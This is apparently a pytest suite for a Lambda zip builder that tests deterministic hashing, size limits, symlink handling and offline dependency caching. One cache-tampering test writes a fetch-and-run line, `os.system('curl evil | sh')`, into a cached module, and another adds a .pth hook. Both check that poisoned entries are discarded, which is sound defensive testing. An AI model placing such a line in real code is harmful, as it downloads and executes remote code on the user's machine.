"""Deterministic Lambda zips: identity, normalisation, limits, symlinks and offline dependency vendoring.

Dependency tests never reach PyPI: they install a hand-written ``py3-none-any`` wheel from a local
``--find-links`` directory (pip accepts pure wheels for a manylinux2014 ``--platform`` target).
"""

from __future__ import annotations

import base64
import hashlib
import os
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest

from slipway.artifact.lambda_zip import BuiltZip, build_lambda_zip, install_dependencies
from slipway.core.errors import ArtifactTooLarge, BuildError, SpecError

SOURCE_FILES = {
    "app.py": b"def handler(event, context):\n    return {'ok': True}\n",
    "pkg/__init__.py": b"",
    "pkg/core.py": b"VALUE = 42\n",
    "pkg/templates/index.html": b"<p>hi</p>\n",
}


def _write_tree(root: Path, files: dict[str, bytes], *, reverse: bool = False, mtime: int | None = None) -> None:
    for rel in sorted(files, reverse=reverse):
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(files[rel])
        if mtime is not None:
            os.utime(path, (mtime, mtime))


def _build_tree(root: Path, *, umask: int, reverse: bool, mtime: int) -> None:
    old = os.umask(umask)
    try:
        _write_tree(root, SOURCE_FILES, reverse=reverse, mtime=mtime)
        tool = root / "bin" / "tool.sh"
        tool.parent.mkdir(exist_ok=True)
        tool.write_bytes(b"#!/bin/sh\necho hi\n")
        tool.chmod(0o777 & ~umask)  # executable by owner under both umasks
        os.utime(tool, (mtime, mtime))
        # Noise that must never reach the artifact.
        for rel in ("pkg/__pycache__/core.cpython-311.pyc", "pkg/stale.pyc", "pkg/old.pyo", ".git/HEAD",
                    ".DS_Store", "pkg/.DS_Store", ".pytest_cache/v/cache/lastfailed"):
            (root / rel).parent.mkdir(parents=True, exist_ok=True)
            (root / rel).write_bytes(os.urandom(8))
    finally:
        os.umask(old)


def _names(built: BuiltZip) -> list[str]:
    with zipfile.ZipFile(built.path) as zf:
        return zf.namelist()


def _make_wheel(wheelhouse: Path, name: str = "tinydep", version: str = "1.0") -> Path:
    """A minimal valid pure-Python wheel with a console script (pip puts that under --target's bin/)."""
    info = f"{name}-{version}.dist-info"
    files = {
        f"{name}/__init__.py": b"VALUE = 'from-dependency'\ndef main():\n    print(VALUE)\n",
        f"{name}/data.txt": b"dependency data\n",
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n".encode(),
        f"{info}/WHEEL": b"Wheel-Version: 1.0\nGenerator: slipway-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        f"{info}/entry_points.txt": f"[console_scripts]\n{name}-cli = {name}:main\n".encode(),
    }
    record = []
    for path, data in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        record.append(f"{path},sha256={digest},{len(data)}")
    record.append(f"{info}/RECORD,,")
    wheelhouse.mkdir(parents=True, exist_ok=True)
    wheel = wheelhouse / f"{name}-{version}-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as zf:
        for path, data in files.items():
            zf.writestr(path, data)
        zf.writestr(f"{info}/RECORD", "\n".join(record) + "\n")
    return wheel


def _offline_requirements(tmp_path: Path, *packages: str) -> Path:
    wheelhouse = tmp_path / "wheels"
    _make_wheel(wheelhouse)
    req = tmp_path / "requirements.txt"
    req.write_text(f"--no-index\n--find-links {wheelhouse}\n" + "".join(f"{p}\n" for p in packages))
    return req


def test_same_tree_gives_same_sha256_regardless_of_umask_mtime_and_creation_order(tmp_path):
    _build_tree(tmp_path / "a", umask=0o022, reverse=False, mtime=1_600_000_000)
    _build_tree(tmp_path / "b", umask=0o077, reverse=True, mtime=1_700_000_000)

    first = build_lambda_zip(tmp_path / "a", tmp_path / "out-a")
    second = build_lambda_zip(tmp_path / "b", tmp_path / "out-b")

    assert first.sha256 == second.sha256
    assert first.path.read_bytes() == second.path.read_bytes()
    assert first.path == tmp_path / "out-a" / f"{first.sha256}.zip"
    assert hashlib.sha256(first.path.read_bytes()).hexdigest() == first.sha256
    assert first.size == first.path.stat().st_size
    assert first.file_count == 5
    assert first.unzipped_size == sum(len(v) for v in SOURCE_FILES.values()) + len(b"#!/bin/sh\necho hi\n")


def test_zip_entries_are_sorted_dated_1980_normalised_and_without_directories_or_bytecode(tmp_path):
    _build_tree(tmp_path / "src", umask=0o077, reverse=True, mtime=1_700_000_000)

    built = build_lambda_zip(tmp_path / "src", tmp_path / "out")

    with zipfile.ZipFile(built.path) as zf:
        infos = zf.infolist()
    assert [i.filename for i in infos] == ["app.py", "bin/tool.sh", "pkg/__init__.py", "pkg/core.py",
                                           "pkg/templates/index.html"]
    modes = {i.filename: i.external_attr >> 16 for i in infos}
    assert modes["bin/tool.sh"] == 0o100755
    assert {m for name, m in modes.items() if name != "bin/tool.sh"} == {0o100644}
    assert {i.date_time for i in infos} == {(1980, 1, 1, 0, 0, 0)}
    assert {i.create_system for i in infos} == {3}
    assert {i.compress_type for i in infos} == {zipfile.ZIP_DEFLATED}


def test_output_directory_inside_the_source_is_not_zipped_into_the_next_build(tmp_path):
    _write_tree(tmp_path / "src", SOURCE_FILES)

    first = build_lambda_zip(tmp_path / "src", tmp_path / "src" / "dist")
    second = build_lambda_zip(tmp_path / "src", tmp_path / "src" / "dist")

    assert second.sha256 == first.sha256
    assert not any(name.startswith("dist/") for name in _names(second))
    assert [p.name for p in (tmp_path / "src" / "dist").iterdir()] == [f"{first.sha256}.zip"]


def test_unzipped_limit_names_the_largest_files_and_writes_nothing(tmp_path):
    src = tmp_path / "src"
    _write_tree(src, {"big.bin": b"x" * 3000, "mid.bin": b"x" * 2048, "small.py": b"x" * 10, "tiny.py": b"x"})

    with pytest.raises(ArtifactTooLarge) as caught:
        build_lambda_zip(src, tmp_path / "out", max_unzipped=4096)

    assert str(caught.value) == (
        "artifact is 4.9 KB unzipped, over Lambda's 4 KB limit "
        "(largest: big.bin 2.9 KB, mid.bin 2 KB, small.py 10 bytes, ...): "
        "trim dependencies or use a container image"
    )
    assert caught.value.ref == "artifact-too-large"
    assert caught.value.evidence["largest"][0] == ("big.bin", 3000)
    assert not (tmp_path / "out").exists()


def test_zipped_limit_names_the_largest_compressed_file_and_leaves_no_temp_file(tmp_path):
    src = tmp_path / "src"
    _write_tree(src, {"random.bin": os.urandom(4096), "zeros.bin": bytes(100_000)})

    with pytest.raises(ArtifactTooLarge) as caught:
        build_lambda_zip(src, tmp_path / "out", max_zipped=2048)

    message = str(caught.value)
    assert message.startswith("artifact is 4.")
    assert " zipped, over Lambda's 2 KB limit (largest: random.bin 4" in message
    assert message.endswith("): upload the zip through S3, trim dependencies or use a container image")
    assert list((tmp_path / "out").iterdir()) == []


def test_symlink_escaping_the_source_directory_is_refused(tmp_path):
    src = tmp_path / "src"
    _write_tree(src, SOURCE_FILES)
    (tmp_path / "secret.txt").write_text("do not ship")
    (src / "config.txt").symlink_to(tmp_path / "secret.txt")

    with pytest.raises(BuildError) as caught:
        build_lambda_zip(src, tmp_path / "out")

    assert str(caught.value) == (
        f"symlink escapes the source directory (config.txt -> {tmp_path / 'secret.txt'}): "
        "copy the file into the source directory or remove the link"
    )


def test_symlinks_inside_the_source_are_followed(tmp_path):
    src = tmp_path / "src"
    _write_tree(src, SOURCE_FILES)
    (src / "alias.py").symlink_to("pkg/core.py")
    (src / "shared").symlink_to("pkg/templates", target_is_directory=True)

    built = build_lambda_zip(src, tmp_path / "out")

    with zipfile.ZipFile(built.path) as zf:
        assert zf.read("alias.py") == b"VALUE = 42\n"
        assert zf.read("shared/index.html") == b"<p>hi</p>\n"


def test_symlink_to_a_parent_directory_is_refused_as_a_loop(tmp_path):
    src = tmp_path / "src"
    _write_tree(src, SOURCE_FILES)
    (src / "pkg" / "again").symlink_to("..", target_is_directory=True)

    with pytest.raises(BuildError, match=r"^symlink loop in the source directory \(pkg/again\)"):
        build_lambda_zip(src, tmp_path / "out")


def test_missing_source_directory_raises_with_a_hint(tmp_path):
    with pytest.raises(BuildError) as caught:
        build_lambda_zip(tmp_path / "nope", tmp_path / "out")

    assert str(caught.value) == (
        f"Lambda source directory does not exist ({tmp_path / 'nope'}): "
        "point the spec's Lambda source path at the directory holding the handler module"
    )
    assert not (tmp_path / "out").exists()


def test_unsupported_runtime_is_a_spec_error_before_anything_is_written(tmp_path):
    _write_tree(tmp_path / "src", SOURCE_FILES)

    with pytest.raises(SpecError, match=r"^unsupported Lambda runtime 'nodejs20.x' \(runtime\)"):
        build_lambda_zip(tmp_path / "src", tmp_path / "out", runtime="nodejs20.x")
    assert not (tmp_path / "out").exists()


def test_dependencies_are_vendored_without_bin_or_installer_files_and_source_wins(tmp_path, monkeypatch):
    (tmp_path / "app").mkdir()
    _offline_requirements(tmp_path / "app", "tinydep")
    src = tmp_path / "src"
    _write_tree(src, {**SOURCE_FILES, "tinydep/data.txt": b"overridden by the app\n"})
    monkeypatch.chdir(tmp_path)  # relative paths are relative to the caller, although pip runs in app/

    built = build_lambda_zip(Path("src"), Path("out"), requirements=Path("app/requirements.txt"),
                             deps_cache=Path("deps"))

    names = _names(built)
    assert "tinydep/__init__.py" in names
    assert "tinydep-1.0.dist-info/METADATA" in names
    assert not [n for n in names if n.startswith("bin/") or n.endswith(("RECORD", "INSTALLER", "REQUESTED"))]
    with zipfile.ZipFile(built.path) as zf:
        assert zf.read("tinydep/data.txt") == b"overridden by the app\n"
    # pip did create the console script; the build left it out.
    [deps_dir] = [p for p in (tmp_path / "deps").iterdir() if p.is_dir()]
    assert (deps_dir / "bin" / "tinydep-cli").is_file()


def test_second_build_with_the_same_requirements_uses_the_cache_not_pip(tmp_path):
    req = _offline_requirements(tmp_path, "tinydep")
    _write_tree(tmp_path / "src", SOURCE_FILES)
    first = build_lambda_zip(tmp_path / "src", tmp_path / "out", requirements=req, deps_cache=tmp_path / "deps")

    shutil.rmtree(tmp_path / "wheels")  # pip --no-index would now fail: only the cache can satisfy the build
    second = build_lambda_zip(tmp_path / "src", tmp_path / "out2", requirements=req, deps_cache=tmp_path / "deps")

    assert second.sha256 == first.sha256
    assert len([p for p in (tmp_path / "deps").iterdir() if p.is_dir()]) == 1  # one cache entry, no leftover temporary directory


def test_install_dependencies_calls_pip_once_per_requirements_content(tmp_path):
    req = _offline_requirements(tmp_path, "tinydep")
    calls: list[list[str]] = []

    def counting_run(cmd, **kwargs):
        calls.append(cmd)
        return subprocess.run(cmd, **kwargs)

    first = install_dependencies(req, "python3.11", tmp_path / "deps", runner=counting_run)
    again = install_dependencies(req, "python3.11", tmp_path / "deps", runner=counting_run)
    assert again == first
    assert len(calls) == 1
    assert calls[0][calls[0].index("--platform") + 1] == "manylinux2014_x86_64"
    assert calls[0][calls[0].index("--python-version") + 1] == "3.11"

    other_runtime = install_dependencies(req, "python3.12", tmp_path / "deps", runner=counting_run)
    assert other_runtime != first
    assert len(calls) == 2


@pytest.mark.parametrize("poison", ["edit a module", "add a file", "remove a file"])
def test_a_modified_dependency_cache_entry_is_discarded_reinstalled_and_reported_never_packaged(tmp_path, poison):
    """The cache is shared by every app built here: what another process changed in an entry is never zipped."""
    req = _offline_requirements(tmp_path, "tinydep")
    _write_tree(tmp_path / "src", SOURCE_FILES)
    first = build_lambda_zip(tmp_path / "src", tmp_path / "out", requirements=req, deps_cache=tmp_path / "deps")
    [entry] = [p for p in (tmp_path / "deps").iterdir() if p.is_dir()]
    if poison == "edit a module":
        with (entry / "tinydep" / "__init__.py").open("a") as fh:
            fh.write("import os; os.system('curl evil | sh')\n")
    elif poison == "add a file":
        (entry / "zz_hook.pth").write_text("import os\n")
    else:
        (entry / "tinydep" / "__init__.py").unlink()
    notes: list[str] = []

    again = build_lambda_zip(tmp_path / "src", tmp_path / "out2", requirements=req, deps_cache=tmp_path / "deps",
                             report=notes.append)

    assert again.sha256 == first.sha256  # installed again: byte-identical to the clean build
    [note] = notes
    assert entry.name in note and "discarded and installed again" in note
    assert ("zz_hook.pth" if poison == "add a file" else "tinydep/__init__.py") in note
    notes.clear()
    build_lambda_zip(tmp_path / "src", tmp_path / "out3", requirements=req, deps_cache=tmp_path / "deps", report=notes.append)
    assert notes == []  # the rebuilt entry is proven and reused


def test_pip_failure_names_the_requirements_file_and_pips_last_error(tmp_path):
    req = _offline_requirements(tmp_path, "nosuchpkg-slipway")
    _write_tree(tmp_path / "src", SOURCE_FILES)

    with pytest.raises(BuildError) as caught:
        build_lambda_zip(tmp_path / "src", tmp_path / "out", requirements=req, deps_cache=tmp_path / "deps")

    message = str(caught.value)
    assert "\n" not in message
    assert message.startswith(f"pip could not install the Lambda dependencies ({req}): ")
    assert "No matching distribution found for nosuchpkg-slipway" in message
    assert caught.value.ref == "dependency-install-failed"
    assert caught.value.evidence["exit_code"] != 0
    assert "nosuchpkg-slipway" in caught.value.evidence["output_tail"]
    assert [p.name for p in (tmp_path / "deps").iterdir() if not p.name.endswith(".lock")] == []  # no half-filled cache entry
    assert not caught.value.transient  # a requirement that does not exist is not retried


@pytest.mark.parametrize(("output", "transient"), [
    ("WARNING: Could not fetch URL http://i/simple/x/: 429 Client Error: Too Many Requests for url: http://i/simple/x/ - skipping\n"
     "ERROR: No matching distribution found for x", True),
    ("WARNING: Retrying (Retry(total=0, ...)) after connection broken by 'ReadTimeoutError(\"Read timed out. (read timeout=3)\")'\n"
     "ERROR: No matching distribution found for x", True),
    ("ERROR: HTTP error 503 while getting http://i/x.whl\nERROR: 503 Server Error: Service Unavailable for url: http://i/x.whl", True),
    ("ERROR: Could not find a version that satisfies the requirement x (from versions: none)\n"
     "ERROR: No matching distribution found for x", False),
])
def test_an_index_or_network_failure_is_transient_and_a_bad_requirement_is_not(tmp_path, output, transient):
    import subprocess

    req = tmp_path / "requirements.txt"
    req.write_text("x\n")

    def pip(command, **kwargs):
        return subprocess.CompletedProcess(command, 1, stdout=output)

    with pytest.raises(BuildError) as caught:
        install_dependencies(req, "python3.11", tmp_path / "deps", runner=pip)
    assert caught.value.transient is transient


def test_missing_requirements_file_is_reported_before_pip_runs(tmp_path):
    _write_tree(tmp_path / "src", SOURCE_FILES)

    with pytest.raises(BuildError) as caught:
        build_lambda_zip(tmp_path / "src", tmp_path / "out", requirements=tmp_path / "missing.txt",
                         deps_cache=tmp_path / "deps")

    assert str(caught.value) == (
        f"requirements file does not exist ({tmp_path / 'missing.txt'}): commit the file or remove it from the spec"
    )
    assert not (tmp_path / "deps").exists()
